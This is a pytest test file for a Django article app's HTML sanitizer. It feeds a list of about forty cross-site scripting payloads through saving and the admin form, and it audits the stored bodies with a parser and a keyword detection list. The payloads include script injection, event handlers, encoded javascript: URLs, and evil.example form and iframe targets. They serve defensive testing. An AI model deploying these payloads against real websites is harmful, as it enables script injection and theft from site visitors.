"""Even a malicious editor cannot inject script: whatever is posted as an article body,
the stored body holds no executable markup (the allow-list in articles/sanitize.py,
applied on every save, and the admin form on top)."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from articles.forms import clean_body
from articles.models import Article
from articles.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from tests.factories import make_unit

from .conftest import article_form_data

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<p onclick="alert(1)" onmouseover="alert(2)">bấm vào đây</p>',
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">liên kết</a>',
    '<a href="JaVaScRiPt:alert(1)">hoa thường</a>',
    '<a href="java\tscript:alert(1)">có tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">thực thể</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">thực thể hex</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">dữ liệu</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="background:url(javascript:alert(1))">nền</p>',
    '<div style="width: expression(alert(1))">biểu thức CSS</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">phủ trang</p>',
    "<style>body{display:none}</style><p>ẩn trang</p>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="p"><button>Gửi</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<template><script>alert(1)</script></template>",
    "<!--<script>alert(1)</script>--><p>chú thích</p>",
    '<figure data-image="1" onclick="alert(1)"><img src=x onerror=alert(1)></figure>',
    '<figure data-image="javascript:alert(1)"></figure>',
    '<table><tr><td background="javascript:alert(1)" onmouseover="alert(1)">ô</td></tr></table>',
    '<a href="https://example.vn" target="_blank" onfocus="alert(1)" autofocus>liên kết</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    '<isindex action="javascript:alert(1)" type="image">',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; là chữ, không phải mã</p>",
]

URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "background", "data", "srcdoc"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
SCHEME = re.compile(r"^\s*([a-z][a-z0-9+.\-]*)\s*:", re.I)


class Audit(HTMLParser):
    """Collects everything executable or layout-breaking in a stored body."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name == "style" or name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            scheme = SCHEME.match(value)
            if name in URL_ATTRIBUTES and scheme and scheme[1].lower() not in SAFE_SCHEMES:
                # Relative addresses ("x", "/media/...") cannot run anything.
                self.problems.append(f"URL {value!r} in {name}")
            if name == "data-image" and not value.isdigit():
                self.problems.append(f"figure marker {value!r}")

    handle_startendtag = handle_starttag


def audit(html):
    parser = Audit()
    parser.feed(html)
    parser.close()
    lowered = html.lower()
    for needle in (
        "<script",
        "javascript:",
        "vbscript:",
        "expression(",
        "<svg",
        "<style",
        "<iframe",
    ):
        if needle in lowered:
            parser.problems.append(f"text {needle!r}")
    return parser.problems


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 20


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_executable_markup_survives_a_save(db, payload):
    article = Article.objects.create(
        title="Thử",
        unit=make_unit(),
        body=f"<p>Trước</p>{payload}<p>Sau</p>",
    )
    article.refresh_from_db()
    assert audit(article.body) == [], article.body
    # Text before the payload survives (a malformed payload may swallow what follows it,
    # exactly as a browser would).
    assert article.body.startswith("<p>Trước</p>")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_admin_form_stores_no_executable_markup(payload):
    assert audit(clean_body(payload)) == []


def test_a_malicious_editor_posting_the_whole_corpus_stores_nothing_executable(client, world):
    article = world["own"].draft
    client.force_login(world["users"]["editor"])
    url = reverse("admin:articles_article_change", args=[article.pk])
    legit = (
        '<p><a href="https://example.vn" target="_blank">liên kết thật</a></p>'
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; là chữ</p>"
    )
    response = client.post(url, article_form_data(article, body=legit + "\n".join(PAYLOADS)))
    assert response.status_code == 302
    article.refresh_from_db()
    assert audit(article.body) == []
    # What editors legitimately write survives.
    assert (
        '<a href="https://example.vn" rel="noopener noreferrer">liên kết thật</a>' in article.body
    )
    assert "&lt;script&gt;alert(1)&lt;/script&gt; là chữ" in article.body
    # The public page renders it without script either.
    client.force_login(world["users"]["chief"])
    page = client.get(article.get_absolute_url()).text
    body = page.split('class="article-body"', 1)[1].split("</article>", 1)[0]
    assert "<script" not in body.lower() and "onerror" not in body.lower()


def test_rich_text_structure_is_kept():
    html = (
        "<h2>Mục lớn</h2><h3>Mục nhỏ</h3><p><strong>Đậm</strong> và <em>nghiêng</em></p>"
        "<ul><li>một</li></ul><ol><li>hai</li></ol><blockquote>Trích</blockquote>"
        "<table><thead><tr><th>Cột</th></tr></thead><tbody><tr><td>Ô</td></tr></tbody></table>"
        '<figure data-image="2"><img src="/media/x.webp"><figcaption>chú thích</figcaption></figure>'
    )
    cleaned = clean_body(html)
    for fragment in (
        "<h2>Mục lớn</h2>",
        "<h3>",
        "<strong>Đậm</strong>",
        "<em>",
        "<ul><li>",
        "<ol>",
        "<blockquote>",
        "<th>Cột</th>",
        "<td>Ô</td>",
    ):
        assert fragment in cleaned
    assert '<figure data-image="2"></figure>' in cleaned  # a bare marker, as rendering expects
